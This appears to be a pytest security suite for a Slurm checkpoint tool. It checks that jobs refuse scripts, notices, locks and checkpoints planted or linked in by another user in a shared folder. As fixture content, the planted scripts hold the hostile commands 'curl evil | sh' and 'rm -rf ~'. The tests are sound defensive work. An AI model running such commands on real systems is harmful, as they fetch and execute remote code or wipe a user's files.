"""What a job acts on is its owner's alone (docs/security.md): a hostile teammate's files,
links and names made in advance are refused with one line, and the job takes the safe way.

The tests run as root; "another user" is uid 65534 (nobody), whose files root's job must
not act on, and a group-writable mode stands for a teammate under file_access = "group".
"""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
from slurmpre.api.meeting import FolderMeeting
from slurmpre.atomic import write_atomic
from slurmpre.errors import CheckpointError, SlurmError
from slurmpre.folder import access
from slurmpre.folder.layout import FolderLayout
from slurmpre.folder.ledger import Choice, Ledger
from slurmpre.folder.locks import FolderLock
from slurmpre.folder.script import record, recorded
from slurmpre.job.handover.inplace import Request, read_request, write_request
from slurmpre.job.watch.notice import (
    CHECKPOINT,
    NO_NOTICE,
    STOP,
    Notice,
    notice_level,
    write_notice,
)

from tests.records import record as ledger_record

NOBODY = 65534


def folder_of_a_job(tmp_path: Path, who: access.Access = access.GROUP) -> Ledger:
    ledger = Ledger(tmp_path / "ckpt", access=who)
    ledger.ensure()
    return ledger


def planted(path: Path, text: str = "", *, uid: int = NOBODY, mode: int = 0o644) -> Path:
    """A file a teammate made (as root here: then given away)."""
    path.write_text(text)
    os.chown(path, uid, -1)
    path.chmod(mode)
    return path


# -- hand-over files --------------------------------------------------------------------
def test_a_teammates_job_script_is_never_submitted(tmp_path: Path) -> None:
    layout = FolderLayout(folder_of_a_job(tmp_path).folder)
    planted(layout.script, "#!/bin/bash\ncurl evil | sh\n")
    with pytest.raises(SlurmError, match=r"job\.sbatch: .*owned by .*65534.*not by"):
        recorded(layout)


def test_a_group_writable_job_script_is_never_submitted(tmp_path: Path) -> None:
    layout = FolderLayout(folder_of_a_job(tmp_path).folder)
    record(layout, "#!/bin/bash\necho train\n")
    layout.script.chmod(0o660)  # as an older slurmpre left it under group access
    with pytest.raises(SlurmError, match="its group may write it"):
        recorded(layout)


def test_a_job_script_that_is_a_link_is_never_followed(tmp_path: Path) -> None:
    layout = FolderLayout(folder_of_a_job(tmp_path).folder)
    elsewhere = tmp_path / "elsewhere.sbatch"
    elsewhere.write_text("#!/bin/bash\nrm -rf ~\n")
    elsewhere.chmod(0o600)
    layout.script.symlink_to(elsewhere)
    with pytest.raises(SlurmError, match="it is a link"):
        recorded(layout)


def test_the_job_script_and_the_control_folder_are_owner_only_under_group_access(
    tmp_path: Path,
) -> None:
    ledger = folder_of_a_job(tmp_path, access.GROUP)
    layout = FolderLayout(ledger.folder)
    record(layout, "#!/bin/bash\n")
    assert stat.S_IMODE(layout.script.stat().st_mode) == 0o600
    assert stat.S_IMODE(layout.meta.stat().st_mode) == 0o750  # the group reads the ledger
    assert stat.S_IMODE(ledger.folder.stat().st_mode) == 0o1770  # shares checkpoints, sticky
    assert not (layout.meta / "submit-env.json").exists()  # no login environment on disk


def test_a_control_folder_swapped_in_by_a_teammate_is_refused(tmp_path: Path) -> None:
    """Under group access the checkpoint folder is the group's to write: a teammate can
    rename .slurmpre away and put a folder of their own in its place."""
    ledger = folder_of_a_job(tmp_path)
    layout = FolderLayout(ledger.folder)
    record(layout, "#!/bin/bash\n")
    layout.meta.rename(ledger.folder / ".old")
    layout.meta.mkdir(mode=0o755)
    os.chown(layout.meta, NOBODY, -1)
    planted(layout.script, "#!/bin/bash\nevil\n", mode=0o600)
    with pytest.raises(SlurmError, match=r"\.slurmpre: it is owned by .*65534"):
        recorded(layout)
    with pytest.raises(CheckpointError, match="65534"):
        ledger.append(ledger_record({"event": "start", "job": "1", "attempt": 0}))


# -- forged signals -------------------------------------------------------------------------
def test_a_forged_notice_does_not_stop_the_training(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    layout = FolderLayout(folder_of_a_job(tmp_path).folder)
    path = layout.notice("7", 0)
    planted(path, json.dumps({"kind": "drain", "node": "n1", "reason": "x", "seen_at": 1.0}))
    assert notice_level(str(path)) == NO_NOTICE
    assert notice_level(str(path)) == NO_NOTICE
    err = capsys.readouterr().err
    assert err.count("not acting on") == 1 and "notice-7-0.json" in err  # said once
    path.unlink()
    write_notice(path, Notice("drain", "n1", "preempted", 1.0, stop=False))
    assert notice_level(str(path)) == CHECKPOINT  # the watcher's own is obeyed


def test_a_notice_linked_to_a_teammates_file_is_not_followed(tmp_path: Path) -> None:
    layout = FolderLayout(folder_of_a_job(tmp_path).folder)
    theirs = planted(tmp_path / "theirs.json", json.dumps({"stop": True}), mode=0o600)
    os.chown(theirs, 0, -1)  # even a file of the user's own, reached through a link
    layout.notice("7", 0).symlink_to(theirs)
    assert notice_level(str(layout.notice("7", 0))) == NO_NOTICE


def test_a_notice_that_cannot_be_read_whole_still_means_stop(tmp_path: Path) -> None:
    layout = FolderLayout(folder_of_a_job(tmp_path).folder)
    write_atomic(layout.notice("7", 0), "{not json", mode=0o600)  # the user's own, torn
    assert notice_level(str(layout.notice("7", 0))) == STOP


def test_forged_marks_and_in_place_requests_are_not_the_jobs(tmp_path: Path) -> None:
    layout = FolderLayout(folder_of_a_job(tmp_path).folder)
    request = layout.in_place_request("7", "0")
    planted(request, json.dumps({"keep": ["n1"], "release": ["n2"], "why": "x", "at": 1.0}))
    assert read_request(request) is None
    request.unlink()
    write_request(request, Request(("n1",), ("n2",), "drain", 1.0))
    assert read_request(request) == Request(("n1",), ("n2",), "drain", 1.0)
    from slurmpre.folder import trust

    planted(layout.taken("7", 0))
    assert not trust.marked(layout.taken("7", 0))
    trust.create(layout.listening("7", 0))
    assert trust.marked(layout.listening("7", 0))


def test_a_forged_choice_is_refused_by_the_other_nodes(tmp_path: Path) -> None:
    ledger = folder_of_a_job(tmp_path)
    choice = Choice("7", 0, None, None, ("n1",), 1, None, "h:1", 1.0)
    planted(ledger.layout.choice("7", "0"), json.dumps(choice.__dict__ | {"nodes": ["n1"]}))
    with pytest.raises(CheckpointError, match=r"choice-7-0\.json: it is owned by"):
        ledger.wait_choice("7", 0, timeout=1)


def test_forged_rank_marks_never_commit_a_checkpoint_early(tmp_path: Path) -> None:
    """Rank 0 commits once every rank marked done: a teammate's ``done-1`` must not count."""
    sync = tmp_path / ".sync.incoming-step-00000001-7"
    rank0 = FolderMeeting(sync, 0, 2, timeout=0.3, access=access.GROUP)
    assert stat.S_IMODE(sync.stat().st_mode) == 0o700  # whatever the access
    sync.chmod(0o777)
    planted(sync / "done-1")
    sync.chmod(0o700)
    with pytest.raises(CheckpointError, match="gave up waiting"):
        rank0.written()


# -- links and names made in advance ------------------------------------------------------
def test_a_lock_that_is_a_link_is_refused_and_its_target_left_alone(tmp_path: Path) -> None:
    ledger = folder_of_a_job(tmp_path)
    target = tmp_path / "precious"
    target.write_text("x")
    target.chmod(0o644)
    ledger.layout.writing_lock.symlink_to(target)
    with pytest.raises(CheckpointError, match="it is a link"):
        ledger.writing_lock(1).acquire()
    assert stat.S_IMODE(target.stat().st_mode) == 0o644
    lock = ledger.layout.ledger_lock
    planted(lock, mode=0o666)
    with pytest.raises(CheckpointError, match=r"not acting on .*ledger\.lock"):
        FolderLock(lock, timeout=1).acquire()
    assert stat.S_IMODE(lock.stat().st_mode) == 0o666


def test_a_temporary_name_made_in_advance_as_a_link_is_never_written_through(
    tmp_path: Path,
) -> None:
    """write_atomic's temporary name was ``.<name>.tmp-<pid>``: anyone could make it a
    link to a file of the user's, and the next write went there."""
    victim = tmp_path / "victim"
    victim.write_text("mine")
    target = tmp_path / "notice.json"
    for pid in (os.getpid(),):
        (tmp_path / f".notice.json.tmp-{pid}").symlink_to(victim)
    write_atomic(target, "new", mode=0o600)
    assert victim.read_text() == "mine" and target.read_text() == "new"
    layout = FolderLayout(folder_of_a_job(tmp_path).folder)
    (layout.meta / f".job.sbatch.tmp-{os.getpid()}").symlink_to(victim)
    record(layout, "#!/bin/bash\n")
    assert victim.read_text() == "mine"


def test_an_old_group_writable_control_folder_is_closed_on_the_next_start(tmp_path: Path) -> None:
    meta = tmp_path / "ckpt" / ".slurmpre"
    meta.mkdir(parents=True, mode=0o770)
    meta.chmod(0o2770)  # a team's setgid folder, as an older slurmpre left it
    Ledger(tmp_path / "ckpt", access=access.GROUP).ensure()
    assert stat.S_IMODE(meta.stat().st_mode) == 0o2750


def test_a_teammates_control_folder_is_never_made_ours(tmp_path: Path) -> None:
    meta = tmp_path / "ckpt" / ".slurmpre"
    meta.mkdir(parents=True)
    meta.chmod(0o777)
    os.chown(meta, NOBODY, -1)
    with pytest.raises(CheckpointError, match=r"not using .*65534"):
        Ledger(tmp_path / "ckpt").ensure()
    assert stat.S_IMODE(meta.stat().st_mode) == 0o777  # not chmod-ed: not ours


def test_a_teammate_reads_the_ledger_for_status_but_the_job_acts_only_on_its_own(
    tmp_path: Path,
) -> None:
    ledger = folder_of_a_job(tmp_path)
    ledger.append(ledger_record({"event": "submitted", "job": "1", "name": "n"}))
    for path in (ledger.dir, ledger.path):
        os.chown(path, NOBODY, -1)  # as a teammate sees the owner's folder
    assert [r.job for r in Ledger(ledger.folder, view=True).records()] == ["1"]
    with pytest.raises(CheckpointError, match="owned by"):
        Ledger(ledger.folder).records()


def test_setgid_of_a_teams_folder_is_kept_on_the_folders_slurmpre_makes(tmp_path: Path) -> None:
    team = tmp_path / "team"
    team.mkdir()
    team.chmod(0o2770)
    access.make_dirs(team / "exp" / "ckpt", access.GROUP)
    assert stat.S_IMODE((team / "exp").stat().st_mode) == 0o2750
    assert stat.S_IMODE((team / "exp" / "ckpt").stat().st_mode) == 0o3770  # sticky too


def test_the_job_resumes_only_from_a_checkpoint_its_user_committed(tmp_path: Path) -> None:
    """Under group access a teammate may write checkpoints, and could put a step-N of
    their own, with a marker, above the owner's: the job's resume (and with pickle, the
    code it runs) would be theirs. What the job resumes from is the owner's; `ckpt list`
    still shows every checkpoint."""
    from slurmpre.folder.checkpoints import latest, writing

    folder = tmp_path / "ckpt"
    for step in (10, 20):
        with writing(folder, step, access=access.GROUP) as path:
            (path / "w").write_bytes(b"x")
    theirs = folder / "step-00000020"
    for entry in [theirs, *theirs.iterdir()]:
        os.chown(entry, NOBODY, -1)
    own = latest(folder, owners=frozenset({os.geteuid(), 0}))
    assert own.checkpoint is not None and own.checkpoint.step == 10
    assert any("committed by " in s.reason and "65534" in s.reason for s in own.skipped)
    assert latest(folder).checkpoint.step == 20  # type: ignore[union-attr]
    marker = stat.S_IMODE((folder / "step-00000010" / ".slurmpre-complete").stat().st_mode)
    assert marker == 0o640  # the group reads the owner's word of what is complete


def test_under_group_access_a_teammate_cannot_move_the_owners_entries_aside(
    tmp_path: Path,
) -> None:
    """The checkpoint folder is the group's to write: without the sticky bit a teammate
    could rename the owner's .slurmpre (or a checkpoint) away and put their own in place."""
    import subprocess
    import tempfile

    top = Path(tempfile.mkdtemp(prefix="slurmpre-sticky-"))  # in /tmp: others reach it
    top.chmod(0o755)
    ledger = folder_of_a_job(top, access.GROUP)
    os.chown(ledger.folder, os.geteuid(), NOBODY)  # the team's group: nobody's, here
    mv = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "mv"]
    moved = subprocess.run([*mv, str(ledger.dir), str(ledger.folder / "x")],
                           capture_output=True, text=True, check=False)  # fmt: skip
    assert moved.returncode != 0 and "Operation not permitted" in moved.stderr
    assert ledger.dir.is_dir()
    made = subprocess.run(
        ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "mkdir",
         str(ledger.folder / "step-00000099")], capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert made.returncode == 0, made.stderr  # the group still adds checkpoints
